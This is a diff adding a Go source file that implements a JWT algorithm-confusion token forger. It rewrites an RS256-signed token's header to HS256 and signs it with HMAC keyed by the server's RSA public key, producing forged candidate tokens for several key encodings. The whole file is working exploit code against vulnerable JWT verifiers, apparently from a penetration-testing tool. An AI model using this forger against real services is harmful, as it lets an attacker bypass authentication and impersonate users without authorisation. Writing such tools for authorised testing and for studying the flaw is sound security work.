@@ -0,0 +1,87 @@
+package main
+
+import (
+	"bytes"
+	"crypto/hmac"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"strings"
+)
+
+// AlgConfusionCandidate is one forged token produced by ForgeAlgConfusion,
+// labeled with the public-key encoding used as the HMAC secret so the
+// caller can tell which candidate to replay first.
+type AlgConfusionCandidate struct {
+	Encoding string
+	Token    string
+}
+
+// pubKeyEncoding is one byte serialization of an RSA public key worth
+// trying as an HMAC secret: real verifiers feed the key into their HMAC
+// call in whatever form they happened to have it in.
+type pubKeyEncoding struct {
+	name  string
+	bytes []byte
+}
+
+// ForgeAlgConfusion implements the CVE-2016-10555-class RS256/RS384/RS512
+// to HS256 algorithm-confusion attack: it rewrites token's header to
+// alg: HS256 and signs it with HMAC-SHA256 keyed by pubKey, trying every
+// byte encoding a real verifier might have fed into its "shared secret"
+// slot. pemSource is the exact PEM text the key was loaded from, if any
+// (e.g. read from a file the user supplied); pass nil when the key came
+// from a JWKS response instead.
+func ForgeAlgConfusion(token string, pubKey *rsa.PublicKey, pemSource []byte) ([]AlgConfusionCandidate, error) {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("algconfusion: invalid JWT format: expected 3 parts, got %d", len(parts))
+	}
+
+	headerBytes, err := base64.RawURLEncoding.DecodeString(parts[0])
+	if err != nil {
+		return nil, fmt.Errorf("algconfusion: decoding header: %w", err)
+	}
+	var header map[string]interface{}
+	if err := json.Unmarshal(headerBytes, &header); err != nil {
+		return nil, fmt.Errorf("algconfusion: parsing header: %w", err)
+	}
+	header["alg"] = "HS256"
+	forgedHeaderBytes, err := json.Marshal(header)
+	if err != nil {
+		return nil, err
+	}
+	signingInput := base64.RawURLEncoding.EncodeToString(forgedHeaderBytes) + "." + parts[1]
+
+	pkcs1 := x509.MarshalPKCS1PublicKey(pubKey)
+	pkix, err := x509.MarshalPKIXPublicKey(pubKey)
+	if err != nil {
+		return nil, fmt.Errorf("algconfusion: marshaling PKIX public key: %w", err)
+	}
+
+	encodings := []pubKeyEncoding{
+		{"PKCS1 DER", pkcs1},
+		{"PKIX DER", pkix},
+		{"PKCS1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
+		{"PKIX PEM", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})},
+	}
+	if len(pemSource) > 0 {
+		encodings = append(encodings,
+			pubKeyEncoding{"supplied PEM, as-is", pemSource},
+			pubKeyEncoding{"supplied PEM, trailing newline stripped", bytes.TrimRight(pemSource, "\n")},
+		)
+	}
+
+	candidates := make([]AlgConfusionCandidate, len(encodings))
+	for i, enc := range encodings {
+		mac := hmac.New(sha256.New, enc.bytes)
+		mac.Write([]byte(signingInput))
+		sig := base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+		candidates[i] = AlgConfusionCandidate{Encoding: enc.name, Token: signingInput + "." + sig}
+	}
+	return candidates, nil
+}